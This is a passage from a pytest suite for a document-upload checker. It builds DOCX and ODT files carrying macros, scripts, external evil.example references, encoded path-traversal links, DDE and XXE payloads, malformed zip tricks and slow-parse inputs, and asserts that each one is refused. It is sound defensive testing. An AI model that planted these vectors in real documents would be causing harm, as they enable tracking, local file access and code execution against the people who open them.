        types=MAIN + override("/word/fonts/font1.odttf", "wordprocessingml.header+xml"),
        word__fonts__font1_DOT_odttf=ODTTF,
    ),
    "font declared a header, another way": docx(
        types=MAIN + override("/Word/fonts%2Ffont1.ODTTF", "wordprocessingml.header+xml; x"),
        word__fonts__font1_DOT_odttf=ODTTF,
    ),
    "picture declared a drawing": docx(
        types=MAIN + '<Default Extension="PNG" ContentType="image/svg+xml"/>',
        word__media__a_DOT_png=PNG,
    ),
    "picture declared nothing": docx(word__media__a_DOT_gif=b"GIF89a"),
    "header in a font": docx(
        relations=relation("header", "fonts/font1.odttf", "Internal"),
        word__fonts__font1_DOT_odttf=ODTTF,
    ),
    "header in a font, absolute": docx(
        relations=relation("header", "/word/fonts/font1.odttf", "Internal")
    ),
    "header in a font, coded": docx(
        relations=relation("header", "fonts/font1%2Eodttf", "Internal")
    ),
    "header in a font, a place in it": docx(
        relations=relation("header", "fonts/font1.odttf#.xml", "Internal")
    ),
    "header in a font, a place in it, coded": docx(
        relations=relation("header", "fonts/font1.odttf%23.xml", "Internal")
    ),
    "header in a font, a question": docx(
        relations=relation("header", "fonts/font1.odttf?.xml", "Internal")
    ),
    "relationships elsewhere": docx(
        word__a_DOT_xml=package("Relationships", relation("image", "http://evil.example/a.png"))
    ),
    "picture from outside, its address": docx(
        '<v:imagedata xmlns:v="urn:v" xmlns:o="urn:o" o:href="http://evil.example/a.png"/>'
    ),
    "drawing that leads to a program": docx('<v:shape xmlns:v="urn:v" href="file:///c:/a.exe"/>'),
    "letters from a source of data": docx(
        word__settings_DOT_xml=part(
            "settings", '<w:mailMerge><w:connectString w:val="x"/></w:mailMerge>'
        )
    ),
    "style sheet": docx(word__a_DOT_xml=b'<?xml-stylesheet href="http://evil.example/a.xsl"?><a/>'),
}

OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"


def odt(body: str = "", **parts: bytes) -> bytes:
    """A text of LibreOffice."""
    names = "".join(
        f' xmlns:{each}="urn:oasis:names:tc:opendocument:xmlns:{each}:1.0"'
        for each in ("office", "text", "draw", "script", "meta", "form")
    )
    content = (
        f'<office:document-content{names} xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts/>'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    folders = (
        "toolbar",
        "floater",
        "menubar",
        "popupmenu",
        "accelerator",
        "progressbar",
        "images/Bitmaps",
    )
    members = {
        "mimetype": file_types.ODT.encode(),
        **{f"Configurations2/{each}/": b"" for each in folders},
        "manifest.rdf": b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
        "meta.xml": f"<office:document-meta{names}><office:meta/></office:document-meta>".encode(),
        "settings.xml": f"<office:document-settings{names}><office:settings/></office:document-settings>".encode(),
        "Thumbnails/thumbnail.png": PNG,
        "styles.xml": f"<office:document-styles{names}><office:styles/></office:document-styles>".encode(),
        "content.xml": content.encode(),
        "layout-cache": b"\4\0\0\0\0",
        "Configurations2/accelerator/current.xml": b"",
        "META-INF/manifest.xml": b'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
    }
    return zipped(
        members | {k.replace("_DOT_", ".").replace("__", "/"): v for k, v in parts.items()}
    )


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/a.png"/></svg>'


def renamed() -> bytes:
    """A letter with a part that some programs know under another name."""
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo("word/a.xml")
        entry.extra = b"\xfe\xca\0\0" + b"up" + b"\x0a\0" + b"\1\0\0\0\0" + b"b.xml"
        archive.writestr(entry, b"<a/>")
    return out.getvalue()


def damaged() -> bytes:
    """A letter whose packed text is no longer what was packed."""
    content = docx(field(" PAGE ") * 99)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        entry = archive.getinfo("word/document.xml")
    begins = entry.header_offset + 32 + len(entry.filename)
    return content[:begins] + b"\xff" * 9 + content[begins + 9 :]


def overlong() -> bytes:
    """A letter whose last part, so its table of contents says, is longer than the rest of the file."""
    content = docx(word__a_DOT_xml=b"<a/>")
    at = content.rfind(b"PK\1\2")
    stored, size = struct.pack("<H", 0), struct.pack("<II", 9_000_000, 9_000_000)
    return content[: at + 10] + stored + content[at + 12 : at + 20] + size + content[at + 28 :]


ODT_TAKEN = {
    "plain": odt("<text:p>A letter</text:p>"),
    "picture": odt(
        '<draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>',
        Pictures__1_DOT_png=PNG,
    ),
    "font": odt(Fonts__font1_DOT_ttf=TTF),
    "picture, a longer way": odt(
        '<draw:image xlink:href="./Pictures/../Pictures/1.png"/>', Pictures__1_DOT_png=PNG
    ),
    "link": odt(
        '<text:a xlink:href="https://example.org">x</text:a><text:a xlink:href="#top">x</text:a>'
    ),
}
ODT_REFUSED = {
    "macro": odt(Basic__Standard__Module1_DOT_xml=b"<x/>"),
    "script": odt(Scripts__python__a_DOT_py=b"x"),
    "script in the text": odt('<text:script script:language="JavaScript">x</text:script>'),
    "event": odt(
        '<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:a"/></office:event-listeners>'
    ),
    "link to a script": odt('<text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a>'),
    "picture from outside": odt('<draw:image xlink:href="http://evil.example/a.png"/>'),
    "picture from beside": odt('<draw:image xlink:href="../a.png"/>'),
    "picture from beside, a longer way": odt(
        '<draw:image xlink:href="./../../../srv/share/x.png"/>'
    ),
    "picture from beside, through a folder": odt('<draw:image xlink:href="Pictures/../../x.png"/>'),
    "picture from beside, coded": odt('<draw:image xlink:href="Pictures/%2e%2E/%2e./x.png"/>'),
    "picture from beside, coded twice": odt('<draw:image xlink:href="%252e%252e/x.png"/>'),
    "picture from beside, the other slash": odt('<draw:image xlink:href=".\\..\\..\\x.png"/>'),
    "picture from a disk": odt('<draw:image xlink:href=" /srv/x.png"/>'),
    "picture from a disk, coded": odt('<draw:image xlink:href="%2Fsrv/x.png"/>'),
    "picture from outside, coded": odt('<draw:image xlink:href="http%3A//evil.example/a.png"/>'),
    "picture from outside, a control character": odt(
        '<draw:image xlink:href="ht&#9;tp://evil.example/a.png"/>'
    ),
    "picture from outside, the other slash": odt(
        '<draw:image xlink:href="/\\evil.example/a.png"/>'
    ),
    "source of another kind": odt('<x:instance xmlns:x="urn:x" x:src="../a.xml"/>'),
    "object": odt('<draw:object xlink:href="./Object 1"/>'),
    "object of another program": odt("<draw:object-ole/>", **{"Object 1": b"\xd0\xcf\x11\xe0"}),
    "frame": odt('<draw:floating-frame xlink:href="x"/>'),
    "text from elsewhere": odt(
        '<text:section><text:section-source xlink:href="x.odt"/></text:section>'
    ),
    "form": odt("<form:form/>"),
    "form of another kind": odt(
        '<x:model xmlns:x="urn:x"><x:instance src="http://evil.example"/></x:model>'
    ),
    "form of another kind, its source": odt(
        '<x:instance xmlns:x="urn:x" src="http://evil.example"/>'
    ),
    "drawing called a picture": odt(Pictures__a_DOT_png=SVG),
    "drawing called a picture, BOM": odt(Pictures__a_DOT_png=b"\xef\xbb\xbf" + SVG),
    "drawing called a font": odt(Fonts__a_DOT_ttf=SVG),
    "drawing called a text": odt(Pictures__a_DOT_xml=SVG),
    "drawing called a cache": odt(**{"layout-cache": SVG}),
    "drawing called a cache, packed": odt(**{"layout-cache": b"\x1f\x8b" + SVG}),
    "template": odt(meta_DOT_xml=b'<m xmlns:meta="urn:m"><meta:template/></m>'),
}
BROKEN = {
    "declarations": (docx(word__a_DOT_xml=b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "closed"),
    "too much": (docx(word__a_DOT_xml=b"<a>" + b" " * 21_000_000 + b"</a>"), "closed"),
    "two of one name": (docx(word__Document_DOT_xml=b"<a/>"), "closed"),
    "outside": (docx(**{"..__a_DOT_xml": b"<a/>"}), "closed"),
    "two of quite the same name": (again(docx(), also={"word/document.xml": b"<a/>"}), "closed"),
    "two of one name, coded": (docx(**{"word/%64ocument.xml": b"<a/>"}), "closed"),
    "coded twice": (docx(**{"word/%2564ocument.xml": b"<a/>"}), "closed"),
    "two of one name, the other slash": (docx(**{"word\\document.xml": b"<a/>"}), "closed"),
    "a name with a control character": (docx(**{"word/header1\x01.xml": b"<a/>"}), "closed"),
    "a name that is cut": (
        docx(**{"word/headeR.xml": b"<a/>"}).replace(b"headeR.xml", b"header.xm\0"),
        "closed",
    ),
    "a folder with content": (docx(**{"word/header1.xml/": b"<a/>"}), "closed"),
    "a comment": (again(docx(), comment=b"a"), "closed"),
    "an archive behind another": (docx(field("DDE")) + docx(), "closed"),
    "no relationships": (again(docx(), without="_rels/.rels"), "closed"),
    "another encoding": (
        docx(word__a_DOT_xml=b'<?xml version="1.0" encoding="cp037"?><a/>'),
        "closed",
    ),
    "a name in another field": (renamed(), "closed"),
    "a name that differs inside": (
        docx(word__a_DOT_xml=b"<a/>").replace(b"word/a.xml", b"word/b.xml", 1),
        "broken",
    ),
    "damaged": (damaged(), "broken"),
    "longer than it is": (overlong(), "broken"),
    "no XML": (docx(word__a_DOT_xml=b"<a>"), "broken"),
}


@pytest.mark.parametrize("name", DOCX_TAKEN)
def test_letter_of_word_is_taken(name: str) -> None:
    assert file_types.check("letter.docx", DOCX_TAKEN[name]) == file_types.DOCX


@pytest.mark.parametrize("name", DOCX_REFUSED)
def test_active_document_of_word_is_refused(name: str) -> None:
    assert refused("letter.docx", DOCX_REFUSED[name]) == "active"


@pytest.mark.parametrize("name", ODT_TAKEN)
def test_letter_of_libreoffice_is_taken(name: str) -> None:
    assert file_types.check("letter.odt", ODT_TAKEN[name]) == file_types.ODT


@pytest.mark.parametrize("name", ODT_REFUSED)
def test_active_document_of_libreoffice_is_refused(name: str) -> None:
    assert refused("letter.odt", ODT_REFUSED[name]) == "active"


@pytest.mark.parametrize("name", BROKEN)
def test_document_that_cannot_be_checked_is_refused(name: str) -> None:
    content, code = BROKEN[name]
    assert refused("letter.docx", content) == code


def test_table_of_excel_is_not_kept() -> None:
    table = zipped(
        {
            "[Content_Types].xml": package(
                "Types", override("/xl/workbook.xml", "spreadsheetml.sheet.main+xml")
            ),
            "_rels/.rels": package(
                "Relationships", relation("officeDocument", "xl/workbook.xml", "Internal")
            ),
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": b"<worksheet/>",
        }
    )
    assert refused("table.xlsx", table) == "unknown"


LONG = {
    "paragraphs": lambda: "".join(f"<w:p><w:r><w:t>{n}</w:t></w:r></w:p>" for n in range(300_000)),
    "fields": lambda: field(" PAGE ") * 70_000,
    "a link of switches": lambda: field(' HYPERLINK "https://x" ' + "\\l " * 2_000_000),
    "a link of quotes": lambda: field(' HYPERLINK "https://x" ' + '\\l " ' * 1_000_000),
    "a link of blanks": lambda: field(' HYPERLINK "https://x" \\l' + " " * 9_000_000),
    "elements in a field": lambda: field(" PAGE " + "<w:x>" * 300_000 + "</w:x>" * 300_000),
}


@pytest.mark.parametrize("name", LONG)
def test_no_document_takes_long(name: str) -> None:
    document = docx(LONG[name]())
    began = time.process_time()
    assert file_types.check("letter.docx", document)
    assert time.process_time() - began < 15 * pace()


# ---- texts


@pytest.mark.parametrize(
    "text",
    [
        "<html>",
        "\ufeff \n<!-- x --><b>",
        "<a href=x>",
        "<svg onload=x>",
        "<?php",
        "{\\rtf1 x}",
        "MIME-Version: 1.0",
    ],
)
def test_page_in_disguise_is_no_text(text: str) -> None:
    assert refused("note.txt", text.encode()) == "unknown"


@pytest.mark.parametrize("text", ["<3 from Odile", "a < b", "« Bonjour »", "1 <b>"])
def test_words_are_a_text(text: str) -> None:
    assert file_types.check("note.txt", text.encode()) == "text/plain"
